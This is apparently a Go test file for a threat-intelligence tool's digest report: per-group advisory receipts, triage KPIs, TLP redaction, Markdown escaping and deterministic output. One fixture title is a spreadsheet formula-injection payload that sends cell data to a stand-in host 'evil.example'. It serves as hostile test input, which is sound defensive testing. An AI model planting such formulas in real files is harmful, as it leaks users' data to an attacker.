package evidence_test

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sigwatch/sigwatch/evidence"
	"github.com/sigwatch/sigwatch/intake"
	"github.com/sigwatch/sigwatch/kpi"
)

// digestPeriod is [2026-09-01, 2026-12-01): it holds the fixture's
// receipts (2026-11-23) and sector-isac's contribution (2026-09-09).
func digestPeriod(t *testing.T) kpi.Period {
	t.Helper()
	p, err := kpi.NewPeriod(time.Date(2026, 9, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestDigestRecords checks the digest of the fixture by hand, group by
// group, for the period [2026-09-01, 2026-12-01) as of 2026-12-01, with
// AMBER redaction. From fixture_test.go:
//
//   - cisa: the KEV feed (source cisa-kev, its channel) delivered the three
//     KEV advisories at 2026-11-23 09:00, each first through this group;
//     all three were first triaged at 09:00 (in the period), two of them
//     actionable (CVE-2023-22518: Confluence in the stack, later rejected
//     at 2026-11-25 10:00; CVE-2024-21762: FortiOS, actioned as CHG-1234 and
//     closed 2026-11-25 09:00), CVE-2025-0001 not applicable. Its only
//     engagement is 2025-06-12, before the period; reviewed 2025-11-02 by
//     akhan, keep.
//   - fortinet-psirt: its feed delivered FG-IR-24-015, an alias of
//     CVE-2024-21762, at the same 09:00 but after the KEV receipt (sources
//     are fetched in order), so not first; KPI 2 counts nothing for it.
//     Latest of its two reviews: 2025-07-01 by akhan, keep.
//   - old-forum: nothing at all.
//   - sector-isac: the manual receipt ISAC-2026-0042, asserted 08:30,
//     triaged not applicable at 10:00; the 2026-09-09 contribution by
//     akhan is in the period and its notes are redacted (the group's TLP is
//     AMBER); the 2026-03-04 meeting is not. Never reviewed.
func TestDigestRecords(t *testing.T) {
	f := newFixture(t)
	got, err := evidence.DigestRecords(f.reg, f.cases, digestPeriod(t), f.asOf, "amber")
	if err != nil {
		t.Fatal(err)
	}
	none := []evidence.DigestAdvisory{}
	want := []evidence.GroupDigest{
		{GroupID: "cisa", GroupName: "CISA Known Exploited Vulnerabilities", Kind: "government-cert",
			MembershipStatus: "active", Owner: "akhan",
			Received: []evidence.DigestAdvisory{
				{CaseID: "CVE-2023-22518", Title: "Atlassian Confluence Improper Authorization", ReceivedAt: "2026-11-23T09:00:00Z",
					FirstChannel: true, Decision: "actionable", State: "rejected"},
				{CaseID: "CVE-2024-21762", Title: "Fortinet FortiOS Out-of-Bound Write", ReceivedAt: "2026-11-23T09:00:00Z",
					FirstChannel: true, Decision: "actionable", State: "closed"},
				{CaseID: "CVE-2025-0001", Title: `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
					ReceivedAt: "2026-11-23T09:00:00Z", FirstChannel: true, Decision: "not_applicable", State: "triaged"},
			},
			FirstReceived: 3, Triaged: 3, Actionable: 2,
			ActionableItems: []evidence.DigestAction{
				{CaseID: "CVE-2023-22518", Title: "Atlassian Confluence Improper Authorization", Decision: "actionable",
					Owner: "collab", State: "rejected", ClosedAt: "2026-11-25T10:00:00Z"},
				{CaseID: "CVE-2024-21762", Title: "Fortinet FortiOS Out-of-Bound Write", Decision: "actionable",
					Owner: "netops", State: "closed", ActionRef: "CHG-1234", ClosedAt: "2026-11-25T09:00:00Z"},
			},
			Engagements: []evidence.EngagementRecord{}, LastEngagement: "2025-06-12",
			LastReview: "2025-11-02", LastReviewBy: "akhan", LastReviewOutcome: "keep",
			Findings: []string{evidence.DigestNoEngagement}},
		{GroupID: "fortinet-psirt", GroupName: "Fortinet PSIRT", Kind: "vendor", MembershipStatus: "active", Owner: "akhan",
			Received: []evidence.DigestAdvisory{
				{CaseID: "CVE-2024-21762", Title: "Fortinet FortiOS Out-of-Bound Write", ReceivedAt: "2026-11-23T09:00:00Z",
					FirstChannel: false, Decision: "actionable", State: "closed"},
			},
			ActionableItems: []evidence.DigestAction{}, Engagements: []evidence.EngagementRecord{},
			LastReview: "2025-07-01", LastReviewBy: "akhan", LastReviewOutcome: "keep",
			Findings: []string{evidence.DigestNoEngagement}},
		{GroupID: "old-forum", GroupName: "Old Forum", Kind: "forum", MembershipStatus: "ended", Owner: "ghost",
			Received: none, ActionableItems: []evidence.DigestAction{}, Engagements: []evidence.EngagementRecord{},
			Findings: []string{evidence.DigestNothingReceived, evidence.DigestNoEngagement, evidence.DigestNeverReviewed}},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", Kind: "isac", MembershipStatus: "active", Owner: "jlee",
			Received: []evidence.DigestAdvisory{
				{CaseID: "ISAC-2026-0042", Title: "Phishing | kit targeting <b>finance</b>\nsecond line",
					ReceivedAt: "2026-11-23T08:30:00Z", FirstChannel: true, Decision: "not_applicable", State: "triaged"},
			},
			FirstReceived: 1, Triaged: 1, Actionable: 0, ActionableItems: []evidence.DigestAction{},
			Engagements: []evidence.EngagementRecord{{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance",
				Date: "2026-09-09", Kind: "contribution", Who: []string{"akhan"}, WhoNames: []string{"Aisha Khan"},
				TLP: "AMBER", Notes: "[redacted TLP:AMBER]", NotesSHA256: sha256Hex("shared IOCs"), Redacted: true}},
			LastEngagement: "2026-09-09",
			Findings:       []string{evidence.DigestNeverReviewed}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("digest (-want +got):\n%s", diff)
	}

	// KPI 2's per-group figures in the KPI report of the same inputs agree.
	ai := kpi.ActionableItems(f.reg, f.cases, digestPeriod(t), f.asOf)
	for _, d := range got {
		for _, r := range ai.ByGroup {
			if r.Group == d.GroupID && (r.Actionable != d.Actionable || r.Triaged != d.Triaged || len(d.ActionableItems) != d.Actionable) {
				t.Errorf("%s: digest %d of %d (%d items), KPI 2 %d of %d", d.GroupID, d.Actionable, d.Triaged,
					len(d.ActionableItems), r.Actionable, r.Triaged)
			}
		}
	}
}

// TestDigestPeriodAndAsOf: receipts outside the period, or after the as-of
// instant, are not listed; engagements and reviews after the as-of day are
// ignored.
func TestDigestPeriodAndAsOf(t *testing.T) {
	f := newFixture(t)
	// Q3 2026: no receipt, sector-isac's 2026-09-09 contribution, not redacted.
	got, err := evidence.DigestRecords(f.reg, f.cases, kpi.Quarter(2026, 3), f.asOf, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range got {
		if len(d.Received) != 0 || d.Triaged != 0 || !slices.Contains(d.Findings, evidence.DigestNothingReceived) {
			t.Errorf("%s: %+v in Q3, want nothing received", d.GroupID, d.Received)
		}
		if d.GroupID == "sector-isac" && (len(d.Engagements) != 1 || d.Engagements[0].Notes != "shared IOCs") {
			t.Errorf("sector-isac Q3 engagements = %+v", d.Engagements)
		}
	}
	// As of 2026-11-23 08:45 the KEV run (09:00) has not happened; the
	// manual receipt (asserted 08:30) has, but its triage (10:00) has not;
	// sector-isac's last engagement is still 2026-09-09 and cisa's review
	// of 2025-11-02 stands.
	early := time.Date(2026, 11, 23, 8, 45, 0, 0, time.UTC)
	got, err = evidence.DigestRecords(f.reg, f.cases, kpi.Quarter(2026, 4), early, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range got {
		switch d.GroupID {
		case "sector-isac":
			if len(d.Received) != 1 || d.Triaged != 0 {
				t.Errorf("sector-isac as of 08:45: received %d, triaged %d; want 1, 0", len(d.Received), d.Triaged)
			}
		default:
			if len(d.Received) != 0 {
				t.Errorf("%s as of 08:45: received %+v, want none", d.GroupID, d.Received)
			}
		}
	}
	// A review dated after the as-of day does not count.
	f.reg.Groups[1].Review.Records = append(f.reg.Groups[1].Review.Records,
		f.reg.Groups[1].Review.Records[0]) // cisa: 2025-11-02 again
	f.reg.Groups[1].Review.Records[1].Date = date(2027, 1, 1)
	got, err = evidence.DigestRecords(f.reg, f.cases, kpi.Quarter(2026, 4), f.asOf, "")
	if err != nil {
		t.Fatal(err)
	}
	if got[0].GroupID != "cisa" || got[0].LastReview != "2025-11-02" {
		t.Errorf("cisa last review = %q, want 2025-11-02 (the 2027 one is after the as-of day)", got[0].LastReview)
	}
}

// TestDigestMarkdownHostile: titles and names from outside stay inert in
// the Markdown: no raw <b>, no unescaped | breaking the table, no line
// break inside a cell.
func TestDigestMarkdownHostile(t *testing.T) {
	f := newFixture(t)
	got := string(write(t, func(b *bytes.Buffer) error {
		return evidence.WriteDigestMarkdown(b, f.reg, f.cases, digestPeriod(t), f.asOf, "amber")
	}))
	for _, want := range []string{
		`| ISAC-2026-0042 | Phishing \| kit targeting \<b\>finance\</b\> second line | 2026-11-23T08:30:00Z | yes |`,
		`## Sector ISAC \| Finance (sector-isac)`,
		`| 2026-09-09 | contribution | Aisha Khan (akhan) | AMBER | \[redacted TLP:AMBER\] |`,
		"- Finding: nothing was received through this group in the period.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("digest.md lacks %q", want)
		}
	}
	for _, bad := range []string{"<b>", "shared IOCs", "\nsecond line"} {
		if strings.Contains(got, bad) {
			t.Errorf("digest.md contains %q", bad)
		}
	}
	for _, l := range strings.Split(got, "\n") {
		if strings.HasPrefix(l, "| ") && !strings.HasSuffix(l, " |") {
			t.Errorf("broken table row: %q", l)
		}
	}
}

// TestDigestGoldenAndDeterminism compares both forms with their golden
// files, and checks that the order of the cases does not matter.
func TestDigestGoldenAndDeterminism(t *testing.T) {
	f := newFixture(t)
	p := digestPeriod(t)
	md := write(t, func(b *bytes.Buffer) error {
		return evidence.WriteDigestMarkdown(b, f.reg, f.cases, p, f.asOf, "amber")
	})
	js := write(t, func(b *bytes.Buffer) error { return evidence.WriteDigestJSON(b, f.reg, f.cases, p, f.asOf, "amber") })
	golden(t, "digest.md", md)
	golden(t, "digest.json", js)

	rev := slices.Clone(f.cases)
	slices.Reverse(rev)
	md2 := write(t, func(b *bytes.Buffer) error { return evidence.WriteDigestMarkdown(b, f.reg, rev, p, f.asOf, "amber") })
	js2 := write(t, func(b *bytes.Buffer) error { return evidence.WriteDigestJSON(b, f.reg, rev, p, f.asOf, "amber") })
	if !bytes.Equal(md, md2) || !bytes.Equal(js, js2) {
		t.Error("digest depends on the order of the cases")
	}

	var doc struct {
		Schema  string            `json:"schema"`
		Redact  string            `json:"redact"`
		Records []json.RawMessage `json:"records"`
	}
	if err := json.Unmarshal(js, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != evidence.DigestSchema || doc.Redact != "AMBER" || len(doc.Records) != 4 {
		t.Errorf("schema %q redact %q records %d", doc.Schema, doc.Redact, len(doc.Records))
	}
	if bytes.Contains(js, []byte("null")) {
		t.Error("digest.json has a null list")
	}
}

func TestDigestErrorsAndEmpty(t *testing.T) {
	f := newFixture(t)
	for name, fn := range map[string]func() error{
		"zero period": func() error {
			_, err := evidence.DigestRecords(f.reg, f.cases, kpi.Period{}, f.asOf, "")
			return err
		},
		"inverted period": func() error {
			_, err := evidence.DigestRecords(f.reg, f.cases, kpi.Period{Start: f.asOf, End: f.asOf.Add(-time.Hour)}, f.asOf, "")
			return err
		},
		"bad redact": func() error {
			return evidence.WriteDigestJSON(&bytes.Buffer{}, f.reg, f.cases, kpi.Quarter(2026, 4), f.asOf, "purple")
		},
		"write error": func() error {
			return evidence.WriteDigestMarkdown(failWriter{}, f.reg, f.cases, kpi.Quarter(2026, 4), f.asOf, "")
		},
	} {
		if err := fn(); err == nil || !strings.HasPrefix(err.Error(), "evidence: ") {
			t.Errorf("%s: err = %v", name, err)
		}
	}
	got, err := evidence.DigestRecords(nil, []intake.Case{}, kpi.Quarter(2026, 4), f.asOf, "")
	if err != nil || got == nil || len(got) != 0 {
		t.Errorf("nil register: %v, %v; want an empty, non-nil list", got, err)
	}
	js := write(t, func(b *bytes.Buffer) error {
		return evidence.WriteDigestJSON(b, nil, nil, kpi.Quarter(2026, 4), f.asOf, "")
	})
	if !bytes.Contains(js, []byte(`"records": []`)) {
		t.Errorf("empty digest JSON: %s", js)
	}
}
